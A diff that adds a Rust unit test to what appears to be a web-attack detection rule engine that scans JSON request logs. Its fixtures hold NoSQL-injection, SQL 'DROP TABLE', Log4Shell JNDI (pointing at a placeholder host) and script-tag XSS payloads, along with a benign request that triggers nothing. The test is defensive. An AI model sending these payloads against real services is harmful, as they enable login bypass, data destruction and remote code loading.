@@ -597,3 +597,42 @@ fn a_condition_on_several_fields_names_the_one_that_matched() {
     let err = RuleSet::parse(&text.replace("url|user_agent", "url||x")).unwrap_err();
     assert!(err.to_string().contains("a field name is empty"), "{err}");
 }
+
+#[test]
+fn json_logs_are_matched_in_body_and_headers() {
+    let rules = builtin().unwrap();
+    let cases = [
+        (
+            r#"{"req":{"method":"POST","url":"/login","body":{"user":{"$ne":null},"pass":{"$ne":null}}}}"#,
+            "93101",
+            "body",
+        ),
+        (
+            r#"{"method":"POST","uri":"/c","request_body":"name=x';DROP TABLE users;--"}"#,
+            "93100",
+            "body",
+        ),
+        (
+            r#"{"req":{"url":"/","headers":{"x-api-version":"${jndi:ldap://e.example/a}"}}}"#,
+            "93150",
+            "headers",
+        ),
+        (
+            r#"{"req":{"url":"/","headers":{"user-agent":"<script>alert(1)</script>"}}}"#,
+            "93110",
+            "user_agent",
+        ),
+    ];
+    for (line, id, field) in cases {
+        let fields = decode(line, &UserDecoders::default());
+        let matches = rules.evaluate(&fields, 0, &mut FrequencyState::default());
+        let hit = matches.iter().find(|m| m.id == id);
+        assert!(hit.is_some(), "{line}: {matches:?}");
+        assert_eq!(hit.unwrap().payload_field.as_deref(), Some(field), "{line}");
+    }
+    let quiet = r#"{"req":{"method":"POST","url":"/api/orders","headers":{"accept":"application/json","cookie":"sid=abc; theme=dark"},"body":{"items":[{"id":1,"qty":2}],"note":"leave at the door"}}}"#;
+    let fields = decode(quiet, &UserDecoders::default());
+    assert!(rules
+        .evaluate(&fields, 0, &mut FrequencyState::default())
+        .is_empty());
+}
